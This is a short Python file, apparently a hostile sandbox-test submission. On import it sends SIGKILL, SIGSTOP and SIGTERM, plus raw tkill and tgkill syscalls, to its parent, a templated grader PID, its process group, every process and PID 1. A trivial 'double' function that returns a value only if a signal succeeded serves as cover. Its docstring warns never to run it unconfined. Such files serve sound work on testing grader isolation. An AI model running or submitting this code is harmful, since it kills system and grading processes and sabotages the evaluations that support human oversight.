"""Sends signals to its parent, the grader, its group and everybody. NEVER run it unconfined."""

import ctypes
import os
import signal

sent = []
libc = ctypes.CDLL(None, use_errno=True)
for target in (os.getppid(), int("@GRADER@"), -1, -os.getppid(), 1):
    for number in (0, signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        try:
            os.kill(target, number)
            sent.append(target)
        except OSError:
            pass
    if libc.syscall(200, target, 9) == 0:  # tkill
        sent.append(target)
    if libc.syscall(234, target, target, 9) == 0:  # tgkill
        sent.append(target)


def double(x):
    return 2 * x if sent else None


def apply(step, numbers):
    return [step(n) for n in numbers]
